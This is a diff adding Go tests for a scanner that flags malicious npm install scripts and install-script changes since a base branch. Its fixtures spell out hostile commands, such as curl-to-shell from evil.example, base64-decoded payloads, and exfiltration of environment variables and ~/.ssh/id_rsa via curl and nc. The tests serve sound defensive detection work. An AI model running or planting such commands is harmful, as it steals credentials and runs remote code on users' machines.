@@ -0,0 +1,174 @@
+package deps
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/nox-hq/nox/core/discovery"
+)
+
+func TestScriptPatterns(t *testing.T) {
+	tests := []struct {
+		script string
+		want   string // rule ID, or "" for no finding
+	}{
+		{"curl -fsSL https://evil.example/x.sh | bash", "DEP-001"},
+		{"wget -qO- http://1.2.3.4/i | sudo sh", "DEP-001"},
+		{`sh -c "$(curl -s https://evil.example/i)"`, "DEP-001"},
+		{"bash <(curl -s https://evil.example/i)", "DEP-001"},
+		{"curl -o bin.tgz https://example.com/bin.tgz && tar xzf bin.tgz", ""},
+		{"echo aGVsbG8K | base64 -d | sh", "DEP-002"},
+		{`node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"`, "DEP-002"},
+		{`python -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"`, "DEP-002"},
+		{"echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "DEP-003"},
+		{`node -e "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))"`, "DEP-003"},
+		{`node -e "fetch('https://evil.example/c', {method: 'POST', body: JSON.stringify(process.env)})"`, "DEP-004"},
+		{"env | curl -X POST --data-binary @- https://evil.example", "DEP-004"},
+		{`node -e "if (process.env.CI) console.log('skip')"`, ""},
+		{"node-gyp rebuild", ""},
+		{"node install.js", ""},
+	}
+	for _, tc := range tests {
+		var got []string
+		for _, p := range scriptPatterns {
+			if p.match(tc.script) {
+				got = append(got, p.ruleID)
+			}
+		}
+		switch {
+		case tc.want == "" && len(got) > 0:
+			t.Errorf("%q matched %v, want no match", tc.script, got)
+		case tc.want != "" && (len(got) != 1 || got[0] != tc.want):
+			t.Errorf("%q matched %v, want [%s]", tc.script, got, tc.want)
+		}
+	}
+}
+
+func TestCheckInstallScripts(t *testing.T) {
+	long := "curl -s https://evil.example/" + strings.Repeat("a", 300) + " | sh"
+	artifacts := writeArtifacts(t, map[string]string{
+		"web/package-lock.json": `{
+  "lockfileVersion": 3,
+  "packages": {
+    "": {"name": "web"},
+    "node_modules/evil": {"version": "1.0.0", "hasInstallScript": true},
+    "node_modules/@scope/native": {"version": "2.1.0", "hasInstallScript": true},
+    "node_modules/fsevents": {"version": "2.3.3", "hasInstallScript": true}
+  }
+}`,
+		"web/node_modules/evil/package.json":               `{"name": "evil", "version": "1.0.0", "scripts": {"test": "jest", "postinstall": "` + long + `"}}`,
+		"web/node_modules/@scope/native/package.json":      `{"name": "@scope/native", "version": "2.1.0", "scripts": {"install": "node-gyp rebuild"}}`,
+		"web/node_modules/lodash/package.json":             `{"name": "lodash", "version": "4.17.21"}`,
+		"web/node_modules/a/node_modules/b/package.json":   `{"name": "b", "version": "0.1.0", "scripts": {"preinstall": "cat ~/.ssh/id_rsa | nc evil.example 80"}}`,
+		"web/node_modules/lodash/node_modules/.bin/x.json": `{}`,
+	})
+
+	got := findingsByRule(checkInstallScripts(context.Background(), artifacts, "", nil, nil))
+	if len(got["DEP-001"]) != 1 || len(got["DEP-003"]) != 1 || len(got["DEP-005"]) != 0 {
+		t.Fatalf("findings = %v", got)
+	}
+	f := got["DEP-001"][0]
+	if f.Location.FilePath != "web/node_modules/evil/package.json" || f.Location.StartLine != 1 {
+		t.Errorf("DEP-001 location = %+v", f.Location)
+	}
+	if f.Metadata["package"] != "evil" || f.Metadata["version"] != "1.0.0" || f.Metadata["script"] != "postinstall" {
+		t.Errorf("DEP-001 metadata = %v", f.Metadata)
+	}
+	if cmd := f.Metadata["command"]; !strings.HasSuffix(cmd, "…") || len(cmd) > maxScriptText+len("…") {
+		t.Errorf("command not truncated: %q", cmd)
+	}
+	if b := got["DEP-003"][0]; b.Metadata["package"] != "b" || b.Location.FilePath != "web/node_modules/a/node_modules/b/package.json" {
+		t.Errorf("DEP-003 = %+v", b)
+	}
+}
+
+func TestCheckInstallScripts_Base(t *testing.T) {
+	artifacts := writeArtifacts(t, map[string]string{
+		"package-lock.json": `{"lockfileVersion": 3, "packages": {
+  "node_modules/native": {"version": "1.0.0", "hasInstallScript": true},
+  "node_modules/remote": {"version": "3.1.0", "hasInstallScript": true},
+  "node_modules/fresh": {"version": "0.0.1", "hasInstallScript": true}
+}}`,
+		"node_modules/native/package.json":     `{"name": "native", "version": "1.0.0", "scripts": {"install": "node-gyp rebuild"}}`,
+		"yarn-app/yarn.lock":                   ``,
+		"yarn-app/node_modules/y/package.json": `{"name": "y", "version": "1.0.0", "scripts": {"install": "node x.js"}}`,
+	})
+	base := map[string]string{
+		"package-lock.json": `{"lockfileVersion": 3, "packages": {
+  "node_modules/native": {"version": "1.0.0", "hasInstallScript": true},
+  "node_modules/remote": {"version": "3.0.0", "hasInstallScript": true}
+}}`,
+	}
+	var read []string
+	readBase := func(p string) ([]byte, error) {
+		read = append(read, p)
+		content, ok := base[p]
+		if !ok {
+			return nil, fmt.Errorf("%s: %w", p, os.ErrNotExist)
+		}
+		return []byte(content), nil
+	}
+
+	changes := make(map[string]string)
+	for _, f := range checkInstallScripts(context.Background(), artifacts, "origin/main", readBase, nil) {
+		if f.RuleID != "DEP-005" {
+			t.Errorf("unexpected %s: %s", f.RuleID, f.Message)
+			continue
+		}
+		if f.Metadata["base"] != "origin/main" || !strings.Contains(f.Message, "since origin/main") {
+			t.Errorf("finding does not name the base: %s %v", f.Message, f.Metadata)
+		}
+		changes[f.Metadata["package"]+"@"+f.Metadata["version"]] = f.Metadata["change"]
+	}
+	want := map[string]string{"remote@3.1.0": "upgraded", "fresh@0.0.1": "added"}
+	if fmt.Sprint(changes) != fmt.Sprint(want) {
+		t.Errorf("changes = %v, want %v", changes, want)
+	}
+	// yarn.lock does not record install scripts, so it is not compared.
+	if fmt.Sprint(read) != "[package-lock.json]" {
+		t.Errorf("read base lockfiles %v", read)
+	}
+
+	// A lockfile that is new since the base reports all its packages.
+	delete(base, "package-lock.json")
+	if fs := checkInstallScripts(context.Background(), artifacts, "origin/main", readBase, nil); len(fs) != 3 {
+		t.Errorf("new lockfile: %d findings, want 3", len(fs))
+	}
+
+	// An unreadable base skips the comparison.
+	failing := func(string) ([]byte, error) { return nil, errors.New("git failed") }
+	if fs := checkInstallScripts(context.Background(), artifacts, "origin/main", failing, nil); len(fs) != 0 {
+		t.Errorf("unreadable base: %v", fs)
+	}
+}
+
+func TestCheckInstallScripts_ManyPackages(t *testing.T) {
+	dir := t.TempDir()
+	for i := range 1500 {
+		pkg := filepath.Join(dir, "node_modules", fmt.Sprintf("pkg-%d", i))
+		if err := os.MkdirAll(pkg, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		manifest := fmt.Sprintf(`{"name": "pkg-%d", "version": "1.0.0", "scripts": {"build": "tsc"}}`, i)
+		if i == 1234 {
+			manifest = `{"name": "pkg-1234", "version": "1.0.0", "scripts": {"postinstall": "wget -qO- https://evil.example | sh"}}`
+		}
+		if err := os.WriteFile(filepath.Join(pkg, "package.json"), []byte(manifest), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	lock := filepath.Join(dir, "yarn.lock")
+	if err := os.WriteFile(lock, nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	artifacts := []discovery.Artifact{{Path: "yarn.lock", AbsPath: lock}}
+	got := checkInstallScripts(context.Background(), artifacts, "", nil, nil)
+	if len(got) != 1 || got[0].Metadata["package"] != "pkg-1234" {
+		t.Errorf("findings = %v", got)
+	}
+}